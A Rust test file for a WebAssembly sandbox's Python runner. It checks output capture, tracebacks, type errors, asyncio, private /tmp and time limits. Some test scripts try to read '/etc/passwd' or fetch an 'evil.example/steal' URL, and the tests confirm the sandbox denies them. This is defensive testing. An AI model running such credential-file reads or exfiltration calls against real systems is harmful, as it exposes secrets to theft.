//! The Python API of the library: a source string or a file run in-process
//! under a grant, blocking and async, with output captured; a traceback
//! never reads the runner's own files (a run's denials are the script's).

use sbx_wasm::Status;
use sbx_wasm::wasm::{ArtifactCache, PythonRunner, RunOptions, WasmHost};
use sbx_wasm::{Capabilities, Violation};
use sbx_wasm_tests::{mount_tree, python_runner, run_test_alone, utf8};
use std::sync::OnceLock;

/// One host and one runner for the file, as an embedder keeps them.
pub(super) fn python() -> &'static (WasmHost, PythonRunner) {
    static PY: OnceLock<(WasmHost, PythonRunner)> = OnceLock::new();
    PY.get_or_init(|| {
        let cache = ArtifactCache::open(super::python::warm_cache()).unwrap();
        let host = WasmHost::new().unwrap().with_cache(cache);
        let runner = PythonRunner::load(&host, &python_runner()).unwrap();
        (host, runner)
    })
}

/// Run `code` under `caps` and check that it exited 0.
fn exits_0(code: &str, caps: &Capabilities) -> sbx_wasm::wasm::WasmRun {
    let (host, py) = python();
    let run = py
        .run_source(host, code, RunOptions::new(caps.clone()))
        .unwrap();
    assert_eq!(run.report.exit_code, Some(0), "{}", utf8(&run.stderr));
    run
}

#[test]
fn a_source_string_runs_blocking_and_async_with_output_captured() {
    let (host, py) = python();
    let caps = Capabilities::builder().build().unwrap();
    let opts = RunOptions::new(caps.clone()).args(["a", "b"]);
    let run = py
        .run_source(host, "import sys\nprint(6 * 7, sys.argv)", opts)
        .unwrap();
    assert_eq!(run.report.exit_code, Some(0), "{}", utf8(&run.stderr));
    assert_eq!(utf8(&run.stdout), "42 ['snippet.py', 'a', 'b']\n");

    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let run = rt
        .block_on(py.run_source_async(host, "print('async')", RunOptions::new(caps)))
        .unwrap();
    assert_eq!(utf8(&run.stdout), "async\n");
}

#[test]
fn tracebacks_read_no_host_file_and_show_the_scripts_own_lines() {
    let (host, py) = python();
    let caps = Capabilities::builder().build().unwrap();
    for source in [
        "def f(:\n    pass\n",
        "x = 1\nraise ValueError('boom at line two')\n",
    ] {
        let run = py
            .run_source(host, source, RunOptions::new(caps.clone()))
            .unwrap();
        assert_eq!(run.report.exit_code, Some(1), "{source}");
        assert!(run.report.denials.is_empty(), "{:?}", run.report.denials);
        assert!(run.audit.is_empty(), "{:?}", run.audit);
        assert!(utf8(&run.stderr).contains("Error"), "{}", utf8(&run.stderr));
    }
    // The runtime error's traceback quotes the script's own line.
    let run = py
        .run_source(
            host,
            "x = 1\nraise ValueError('boom')\n",
            RunOptions::new(caps.clone()),
        )
        .unwrap();
    let err = utf8(&run.stderr);
    assert!(err.contains("raise ValueError('boom')"), "{err}");

    // The neighbour: what the script itself tries is on record.
    let run = py
        .run_source(host, "open('/etc/passwd').read()", RunOptions::new(caps))
        .unwrap();
    let denied: Vec<Violation> = run.report.denials.iter().map(|d| d.violation).collect();
    assert_eq!(denied, [Violation::FsReadDenied], "{}", utf8(&run.stderr));
}

#[test]
fn a_host_file_runs_without_being_mounted_and_bad_input_is_an_error() {
    let (host, py) = python();
    let dir = mount_tree(&[("job.py", "import sys\nprint('job', sys.argv[1:])\n")]);
    let caps = Capabilities::builder().build().unwrap();
    let run = py
        .run_file(
            host,
            &dir.path().join("job.py"),
            RunOptions::new(caps.clone()).args(["x"]),
        )
        .unwrap();
    assert_eq!(
        run.report.status,
        Status::Completed,
        "{}",
        utf8(&run.stderr)
    );
    assert_eq!(utf8(&run.stdout), "job ['x']\n");

    assert!(
        py.run_source(host, "print(1)\0", RunOptions::new(caps.clone()))
            .is_err()
    );
    let missing = dir.path().join("missing.py");
    assert!(py.run_file(host, &missing, RunOptions::new(caps)).is_err());
    assert!(PythonRunner::locate(Some(&missing)).is_err());
}

#[test]
fn wrong_types_at_the_sbx_api_are_type_errors_not_crashes() {
    let (host, py) = python();
    let caps = Capabilities::builder().build().unwrap();
    for source in [
        "import sbx\nsbx.call_tool(None)",
        "import sbx\nsbx.call_tool('t', object())",
        "import sbx\nsbx.fetch(5)",
        "import sbx\nsbx.fetch('http://x.example/', headers={'X': 1})",
        "import sbx\nsbx.fetch('http://x.example/', headers=[('X',)])",
        "import sbx\nsbx.fetch('http://x.example/', body=3.5)",
    ] {
        let run = py
            .run_source(host, source, RunOptions::new(caps.clone()))
            .unwrap();
        assert_eq!(
            run.report.status,
            Status::Exited,
            "{source}: {:?}",
            run.trap
        );
        assert_eq!(run.report.exit_code, Some(1), "{source}");
        assert!(
            utf8(&run.stderr).contains("TypeError"),
            "{source}: {}",
            utf8(&run.stderr)
        );
        // Refused in the guest: nothing reached the gate.
        assert!(run.audit.is_empty(), "{source}: {:?}", run.audit);
    }
    // The neighbour: right types reach the gate, which refuses the tool.
    let run = py
        .run_source(
            host,
            "import sbx\ntry:\n    sbx.call_tool('t', {'a': 1})\nexcept sbx.Denied as e:\n    print(e.violation)",
            RunOptions::new(caps.clone()),
        )
        .unwrap();
    assert_eq!(utf8(&run.stdout), "tool_denied\n");
    // An exit code past 32 bits is a failure, not a trap.
    let run = py
        .run_source(host, "import sys\nsys.exit(2**70)", RunOptions::new(caps))
        .unwrap();
    assert_eq!(run.report.exit_code, Some(1), "{:?}", run.trap);
    assert!(run.trap.is_none());
}

#[test]
fn more_of_the_standard_library_works_and_what_is_missing_says_why() {
    let (host, py) = python();
    let caps = Capabilities::builder().build().unwrap();
    let source = r#"
import email.message, io, optparse, pickle, unittest, xml.dom.minidom, zipfile
m = email.message.EmailMessage(); m["Subject"] = "hi"; m.set_content("x")
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w") as z:
    z.writestr("a.txt", "hello")
with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
    data = z.read("a.txt")
print(m["Subject"], pickle.loads(pickle.dumps([1, 2])), data,
      xml.dom.minidom.parseString("<a><b/></a>").documentElement.tagName,
      "é".encode("cp437"))
try:
    import lzma
except ModuleNotFoundError as e:
    print("lzma:", e)
"#;
    let run = py.run_source(host, source, RunOptions::new(caps)).unwrap();
    let out = utf8(&run.stdout);
    assert_eq!(run.report.exit_code, Some(0), "{}", utf8(&run.stderr));
    assert!(out.starts_with("hi [1, 2] b'hello' a b'\\x82'\n"), "{out}");
    assert!(
        out.contains("lzma: No module named 'lzma' in the sbx Python runner"),
        "{out}"
    );
    assert!(run.audit.is_empty(), "{:?}", run.audit);
}

#[test]
fn asyncio_runs_coroutines_that_need_no_socket() {
    let caps = Capabilities::builder()
        .allow_egress("https://api.example.com")
        .build()
        .unwrap();
    let code = r#"
import asyncio, sbx

async def double(x):
    await asyncio.sleep(0.01)
    return 2 * x

async def numbers():
    for i in range(3):
        yield i

async def main():
    q = asyncio.Queue()
    await q.put("queued")
    task = asyncio.create_task(double(10))
    print(await asyncio.gather(double(1), double(2)), await q.get(), await task)
    print([i async for i in numbers()], await asyncio.to_thread(sum, [1, 2, 3]))
    try:
        await asyncio.wait_for(asyncio.sleep(10), 0.05)
    except TimeoutError:
        print("timed out")
    try:
        await asyncio.open_connection("example.com", 80)
    except OSError as e:
        print("connection:", e)
    try:
        sbx.fetch("https://evil.example/steal")
    except sbx.Denied as e:
        print("from async code:", e.violation)

asyncio.run(main())
"#;
    let run = exits_0(code, &caps);
    assert_eq!(
        utf8(&run.stdout),
        "[2, 4] queued 20\n[0, 1, 2] 6\ntimed out\n\
         connection: sockets are not available in the sbx sandbox (use sbx.fetch)\n\
         from async code: egress_denied\n"
    );
    // No socket was tried behind the script's back: the one denial is its
    // own fetch.
    let denied: Vec<Violation> = run.report.denials.iter().map(|d| d.violation).collect();
    assert_eq!(denied, [Violation::EgressDenied]);
}

#[test]
fn tempfile_works_in_a_private_tmp_that_the_next_run_does_not_see() {
    let (host, py) = python();
    let caps = Capabilities::builder().build().unwrap();
    let code = r#"
import os, tempfile
with tempfile.TemporaryDirectory() as d:
    open(os.path.join(d, "part.txt"), "w").write("kept for the run")
    print(os.listdir(d))
with tempfile.NamedTemporaryFile("w+") as f:
    f.write("abc"); f.flush(); f.seek(0); print(f.read())
open("/tmp/left-behind.txt", "w").write("run 1")
print(sorted(os.listdir("/tmp")))
"#;
    let run = exits_0(code, &caps);
    assert_eq!(
        utf8(&run.stdout),
        "['part.txt']\nabc\n['left-behind.txt']\n"
    );
    assert!(run.report.usage.write_bytes >= 21, "{:?}", run.report.usage);
    let rule = run.audit[0].rule.clone().unwrap_or_default();
    assert_eq!(rule, "write mount /tmp (private to the run)");

    // The next run's /tmp is a new, empty folder.
    let run = py
        .run_source(
            host,
            "import os\nprint(os.listdir('/tmp'))",
            RunOptions::new(caps),
        )
        .unwrap();
    assert_eq!(utf8(&run.stdout), "[]\n", "{}", utf8(&run.stderr));

    // Writes there count against the write quota like any write mount.
    let tight = Capabilities::builder()
        .max_write_bytes(1000)
        .build()
        .unwrap();
    let run = py
        .run_source(
            host,
            "open('/tmp/big', 'wb').write(b'x' * 2000)",
            RunOptions::new(tight),
        )
        .unwrap();
    assert_eq!(run.report.violation, Some(Violation::MaxWriteBytes));
}

#[test]
fn threading_waits_sleep_and_an_endless_one_ends_at_max_wall() {
    let (host, py) = python();
    let caps = Capabilities::builder()
        .max_wall(std::time::Duration::from_millis(1000))
        .build()
        .unwrap();
    let code = r#"
import queue, threading, time
e = threading.Event()
t0 = time.monotonic()
print(e.wait(0.2), time.monotonic() - t0 >= 0.2)
e.set()
print(e.wait())
q = queue.Queue()
try:
    q.get(timeout=0.05)
except queue.Empty:
    print("empty")
"#;
    let run = exits_0(code, &caps);
    assert_eq!(utf8(&run.stdout), "False True\nTrue\nempty\n");
    // Nothing will ever set it: the run waits (sleeping, not spinning the
    // fuel away) until max_wall, and is not a trap.
    let run = py
        .run_source(
            host,
            "import threading\nthreading.Event().wait()",
            RunOptions::new(caps),
        )
        .unwrap();
    assert_eq!(
        run.report.violation,
        Some(Violation::MaxWall),
        "{}",
        utf8(&run.stderr)
    );
    assert!(
        run.report.usage.fuel.unwrap_or(0) < 100_000_000,
        "{:?}",
        run.report.usage
    );
}

#[test]
fn output_events_come_as_whole_lines_when_asked() {
    use sbx_wasm::events::{Event, EventSink};
    let (host, py) = python();
    let caps = Capabilities::builder().build().unwrap();
    // Unbuffered writes, pieces of a line each, and a last line without
    // its newline.
    let code = "import sys\nfor i in range(3):\n    sys.stdout.write('tick'); sys.stdout.flush()\n    \
                sys.stdout.write(' '); sys.stdout.flush()\n    sys.stdout.write(str(i) + '\\n'); sys.stdout.flush()\n\
                sys.stdout.write('end'); sys.stdout.flush()\n";
    let lines_of = |sink: EventSink, rx: std::sync::mpsc::Receiver<Event>| {
        let run = py
            .run_source(host, code, RunOptions::new(caps.clone()).events(sink))
            .unwrap();
        assert_eq!(run.report.exit_code, Some(0), "{}", utf8(&run.stderr));
        rx.try_iter()
            .filter_map(|e| match e {
                Event::Stdout(b) => Some(utf8(&b)),
                _ => None,
            })
            .collect::<Vec<_>>()
    };
    let (tx, rx) = std::sync::mpsc::sync_channel(1024);
    let whole = lines_of(EventSink::new(tx).lines(), rx);
    assert_eq!(whole, ["tick 0\n", "tick 1\n", "tick 2\n", "end"]);
    // The neighbour: each write as it came.
    let (tx, rx) = std::sync::mpsc::sync_channel(1024);
    let pieces = lines_of(EventSink::new(tx), rx);
    assert!(pieces.len() > 4, "{pieces:?}");
    assert_eq!(pieces.concat(), whole.concat());
}

/// A program that ends right after its Python run leaves nothing in the
/// temp folder: not the run's `/tmp`, nor the next run's, which the library
/// makes ahead and may still be making as the program exits. Each round is
/// this test binary run again as such a program, with `TMPDIR` a folder of
/// the test's own.
#[test]
fn a_program_that_ends_right_after_its_run_leaves_nothing_in_the_temp_folder() {
    const CHILD: &str = "SBX_TEST_ONE_RUN_THEN_EXIT";
    if std::env::var_os(CHILD).is_some() {
        let run = exits_0(
            "open('/tmp/x', 'w').write('x')\nprint('ok')",
            &Capabilities::builder().build().unwrap(),
        );
        assert_eq!(utf8(&run.stdout), "ok\n");
        return;
    }
    let name =
        "python_api::a_program_that_ends_right_after_its_run_leaves_nothing_in_the_temp_folder";
    for _ in 0..3 {
        let tmpdir = tempfile::tempdir().unwrap();
        run_test_alone(
            name,
            &[(CHILD, "1".as_ref()), ("TMPDIR", tmpdir.path().as_os_str())],
        );
        let left: Vec<_> = std::fs::read_dir(tmpdir.path())
            .unwrap()
            .flatten()
            .map(|e| e.file_name())
            .collect();
        assert!(left.is_empty(), "left in the temp folder: {left:?}");
    }
}
